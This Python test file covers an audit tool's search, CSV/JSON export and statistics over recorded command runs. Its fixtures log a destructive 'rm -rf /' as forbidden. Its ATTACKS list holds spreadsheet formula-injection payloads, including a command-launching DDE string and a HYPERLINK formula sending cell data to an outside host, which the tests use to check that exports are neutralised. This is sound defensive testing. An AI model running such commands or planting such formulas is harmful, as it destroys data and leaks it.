"""Runs on record can be found, taken elsewhere without harm, and counted."""

from __future__ import annotations

import csv
import io
import json
import stat
import tracemalloc
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import click
import pytest
from history_stage import Stage
from hypothesis import given
from hypothesis import strategies as st

from redoma.audit import AuditLog, Record
from redoma.frontends.cli import plots
from redoma.history.export import cell, write
from redoma.history.search import RunSummary, runs
from redoma.history.stats import overview
from redoma.lib.sanitise import visible
from redoma.models import Request, Submission

Called = Callable[..., tuple[int, str, str]]


@pytest.fixture
def stage(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Stage:
    monkeypatch.setenv("REDOMA_STATE_DIR", str(tmp_path / "state"))
    return Stage(tmp_path / "state")


def asked(code: str, requester: str = "ann", **fields: Any) -> Submission:
    return Submission(Request(code=code, language="bash", requester=requester, **fields))


@pytest.fixture
def some(stage: Stage) -> Stage:
    stage.ask(asked("ls -l", reason="to look"))
    stage.ask(asked("curl a.io", "bob"), "denied")
    stage.ask(asked("rm -rf /", "bob e2b"), "forbidden")
    stage.ask(asked("make TEST"), "error")
    stage.log.append("alarm", "r", {"pin": "x", "requester": "eve"})
    begun = stage.ask(asked("sleep 9"))
    stage.log.append("intent", "cut", {**next(r.data for r in stage.log.records() if r.id == begun)})
    return stage


@pytest.mark.parametrize(
    ("arguments", "expected"),
    [
        ([], ["ls -l", "curl a.io", "rm -rf /", "make TEST", "sleep 9", "sleep 9"]),
        (["--status", "error", "--status", "denied"], ["curl a.io", "make TEST"]),
        (["--status", "interrupted"], ["sleep 9"]),
        (["--requester", "bob"], ["curl a.io", "rm -rf /"]),
        (["--rule", "network.*"], ["curl a.io"]),
        (["--decision", "forbid"], ["rm -rf /"]),
        (["--level", "L1"], ["ls -l", "sleep 9", "sleep 9"]),
        (["--backend", "jail", "make"], ["make TEST"]),
        (["make test"], ["make TEST"]),
        (["to look"], ["ls -l"]),
        (["--regex", r"^(ls|rm) -"], ["ls -l", "rm -rf /"]),
        (["--since", "1h"], ["ls -l", "curl a.io", "rm -rf /", "make TEST", "sleep 9", "sleep 9"]),
        (["--until", "1h"], []),
        (["--since", "2999-01-01"], []),
        (["-n", "2"], ["sleep 9", "sleep 9"]),
        (["--requester", "bob e2b"], ["rm -rf /"]),
        (["--requester", "bob", "--status", "error"], []),
    ],
)
def test_runs_are_found_by_each_of_what_is_asked_for_newest_last(
    some: Stage, redoma: Called, arguments: list[str], expected: list[str]
) -> None:
    status, shown, _ = redoma("audit", "search", "--json", *arguments)
    found = json.loads(shown)
    assert status == 0
    assert [run["text"] for run in found] == expected
    assert [run["time"] for run in found] == sorted(run["time"] for run in found)


def test_a_run_is_one_line_of_what_matters_and_records_of_another_kind_can_be_had(
    some: Stage, redoma: Called, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "120")
    _, shown, _ = redoma("audit", "search", "--rule", "network.download")
    (line,) = shown.splitlines()
    for part in ("denied", "L4", "bob", "100 ms", "curl a.io [network.download]"):
        assert part in line
    _, shown, _ = redoma("audit", "search", "--kind", "al*")
    assert "alarm" in shown
    assert '"requester":"eve"' in shown
    assert redoma("audit", "search", "--kind", "alarm", "nothing like it")[1] == ""
    assert "only runs have it" in redoma("audit", "search", "--kind", "alarm", "--level", "L1")[2]


@pytest.mark.parametrize("arguments", [["--regex", "("], ["--since", "yesterday"], ["--since", "9" * 30 + "d"]])
def test_what_can_not_be_looked_for_is_told(some: Stage, redoma: Called, arguments: list[str]) -> None:
    status, shown, error = redoma("audit", "search", *arguments)
    assert (status, shown) == (2, "")
    assert "Traceback" not in error


# --- export ---

ATTACKS = [
    "=1+1",
    "+1",
    "-1+cmd|'/c calc'!A0",
    "@SUM(1)",
    '=HYPERLINK("http://x.io?"&A1)',
    " =1",
    "\t=1",
    "\r=1",
    "\n=1",
    "a\n=1",
    "a;=1",
    "a,=1",
    'a";=1',
    "\uff1d1",
    "'=1",
    "\x00=1",
    "\u200e=1",
    "\u3164=1",
]


def _cells_of_every_spreadsheet(text: str) -> Iterator[str]:
    """As one splits it that takes `;` or a tab for what separates, whatever the quotes say."""
    for line in text.replace("\r", "\n").split("\n"):
        for separator in (",", ";", "\t"):
            yield from (part.strip().strip('"').strip() for part in line.split(separator))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_an_export_is_a_formula_to_any_spreadsheet(attack: str) -> None:
    def written(run: RunSummary) -> str:
        file = io.StringIO()
        write([run], file, "csv")
        return file.getvalue()

    def formulas(text: str) -> list[str]:
        seen = [char for char in text if (char.isprintable() and char != "\u3164") or char in "\t\r\n"]
        return [part for part in _cells_of_every_spreadsheet("".join(seen)) if part[:1] in tuple("=+-@\uff1d")]

    run = RunSummary(id="1", time="2", text=attack, requester=attack, error=attack)
    assert formulas(written(run)) == []
    unprotected = io.StringIO()
    csv.writer(unprotected, quoting=csv.QUOTE_ALL).writerow([attack])
    if attack != "'=1":  # which an apostrophe in front has made a text already
        assert formulas(unprotected.getvalue()) != []


@given(st.text())
def test_a_cell_is_the_text_but_for_apostrophes_and_escapes(text: str) -> None:
    shown = cell(text)
    assert isinstance(shown, str)
    assert shown.replace("'", "") == visible(text).replace("'", "")
    assert cell("plain text, as most is") == "plain text, as most is"


def test_an_export_has_one_row_a_run_and_json_is_exact(some: Stage, tmp_path: Path, redoma: Called) -> None:
    some.ask(asked("=cmd\u202e"))
    table = tmp_path / "runs.csv"
    assert redoma("audit", "export", "-o", str(table), "--status", "ok")[0] == 0
    rows = list(csv.DictReader(io.StringIO(table.read_text())))
    assert [row["text"] for row in rows] == ["ls -l", "sleep 9", "'=cmd\\u202e"]
    assert rows[0]["status"] == "ok"
    assert rows[0]["ended"] > rows[0]["time"]
    assert stat.S_IMODE(table.stat().st_mode) == 0o600
    array = json.loads(redoma("audit", "export", "--format", "json")[1])
    lines = [json.loads(line) for line in redoma("audit", "export", "--format", "jsonl")[1].splitlines()]
    assert array == lines
    assert len(array) == 7
    assert array[5]["text"] == "=cmd\u202e"
    assert json.loads(redoma("audit", "export", "--format", "json", "--status", "none")[1]) == []
    same = redoma("audit", "search", "--csv", "-", "--status", "ok")[1]
    assert same == table.read_text()


def test_an_export_never_replaces_a_file_unasked_nor_leaves_half_of_one(
    some: Stage, tmp_path: Path, redoma: Called
) -> None:
    file = tmp_path / "runs.csv"
    file.write_text("mine")
    status, _, error = redoma("audit", "export", "-o", str(file))
    assert (status, file.read_text()) == (2, "mine")
    assert "--force" in error
    assert redoma("audit", "export", "-o", str(file), "--force")[0] == 0
    assert file.read_text().startswith('"id","time"')
    assert redoma("audit", "export", "-o", str(tmp_path / "no" / "x.csv"))[0] == 2
    assert {path.name for path in tmp_path.iterdir()} == {"state", "runs.csv"}


def _many(count: int) -> Iterator[Record]:
    text = "x" * 10_000
    for number in range(count):
        shared = {"time": "2030-01-01T00:00:00", "id": str(number), "prev": "", "hash": ""}
        yield Record(seq=1, kind="intent", data={"code": text + str(number), "language": "bash"}, **shared)
        yield Record(seq=2, kind="outcome", data={"status": "ok"}, **shared)


def test_a_long_history_is_never_held_as_a_whole() -> None:
    class Nowhere(io.StringIO):
        def write(self, text: str) -> int:
            return len(text)

    tracemalloc.start()
    assert write(runs(_many(500)), Nowhere(), "csv") == 500
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 1_000_000  # of the 5 MB that it is


# --- stats ---


def test_stats_count_what_was_asked_for_and_draw_it(some: Stage, redoma: Called, monkeypatch: Any) -> None:
    counted = json.loads(redoma("audit", "stats", "--json")[1])
    assert counted["runs"] == 6
    assert counted["interrupted"] == 1
    assert counted["by_status"] == {"ok": 2, "denied": 1, "forbidden": 1, "error": 1}
    assert counted["by_requester"] == {"ann": 4, "bob": 1, "bob e2b": 1}
    assert counted["by_rule"]["network.download"] == 1
    assert counted["by_decision"] == {"allow": 4, "prompt": 1, "forbid": 1}
    assert counted["per"] == "hour"
    assert sum(runs for _, runs in counted["over_time"]) == 6
    assert {bar["up_to"]: bar["runs"] for bar in counted["durations"] if bar["runs"]} == {0.1: 5}
    for columns in (40, 80, 200):
        monkeypatch.setenv("COLUMNS", str(columns))
        _, shown, _ = redoma("audit", "stats")
        assert max(map(len, shown.splitlines())) <= max(columns, 60)
        assert "\x1b" not in shown
        for part in ("6 runs", "Runs an hour", "network.download", "p50 100 ms, p95 100 ms", "█"):
            assert part in shown
    assert json.loads(redoma("audit", "stats", "--json", "--since", "2999-01-01")[1])["runs"] == 0
    assert "nothing is on record" in redoma("audit", "stats", "--since", "2999-01-01")[1]


def _at(*times: datetime) -> Iterator[Record]:
    for time in times:
        yield Record(
            seq=1, time=time.isoformat(timespec="microseconds"), kind="intent", id="x", data={}, prev="", hash=""
        )


def test_stats_count_runs_and_find_those_without_an_outcome(tmp_path: Path) -> None:
    log = AuditLog(tmp_path / "audit")
    for number in range(1, 21):
        log.append("intent", str(number), {"backend": "auto", "requester": "ana"})
        ran = {"backend": "monty" if number > 5 else "native", "duration": number / 10}
        log.append("outcome", str(number), {"status": "ok" if number > 2 else "timeout", **ran})
    last = log.append("intent", "cut-short", {"backend": "monty"})
    stats = overview(log.records())
    assert (stats.runs, stats.interrupted) == (21, 1)
    assert stats.by_status == {"ok": 18, "timeout": 2}
    assert stats.by_backend == {"monty": 15, "native": 5}
    assert stats.by_requester == {"ana": 20, "unknown": 1}
    assert (stats.duration_p50, stats.duration_p95) == (1.0, 1.9)
    assert stats.last == last.time


def test_stats_count_the_backend_that_ran_and_none_where_nothing_did(tmp_path: Path) -> None:
    log = AuditLog(tmp_path / "audit")
    for run, backend in (("a", "monty"), ("refused", "")):
        log.append("intent", run, {"backend": "auto"})
        log.append("outcome", run, {"status": "ok", "backend": backend})
    assert overview(log.records()).by_backend == {"monty": 1}


@pytest.mark.parametrize(("days", "per", "bars"), [(1, "hour", 25), (40, "day", 41), (200, "week", 29)])
def test_time_is_drawn_without_gaps_by_the_hour_the_day_or_the_week(days: int, per: str, bars: int) -> None:
    start = datetime(2030, 1, 1, 5, tzinfo=UTC)  # a Tuesday
    counted = overview(_at(start, start, start + timedelta(days=days)))
    assert (counted.per, len(counted.over_time)) == (per, bars)
    assert [runs for _, runs in counted.over_time if runs] == [2, 1]


@pytest.mark.parametrize("encoding", ["utf-8", "ascii"])
def test_bars_are_in_proportion_and_nothing_that_is_there_is_invisible(
    encoding: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(plots, "_fine", lambda: encoding == "utf-8")
    monkeypatch.setenv("COLUMNS", "80")
    full, half, little, none = map(click.unstyle, plots.bars({"a": 1000, "b": 500, "c": 1, "d": 0}))
    block = "█" if encoding == "utf-8" else "#"
    assert abs(full.count(block) - 2 * half.count(block)) <= 1
    assert len(little.split()) == 3
    assert len(none.split()) == 2
    lines = [click.unstyle(line) for line in plots.columns_over_time([("x", 1), ("y", 1000)])]
    assert lines[5].rpartition("┤" if encoding == "utf-8" else "|")[2].strip()[0] in "▁#"
    "".join(lines).encode(encoding)
    rows = list(plots.bars({str(number): 1 for number in range(30)}, max_rows=5))
    assert rows[-1].split()[:2] == ["26", "others"]
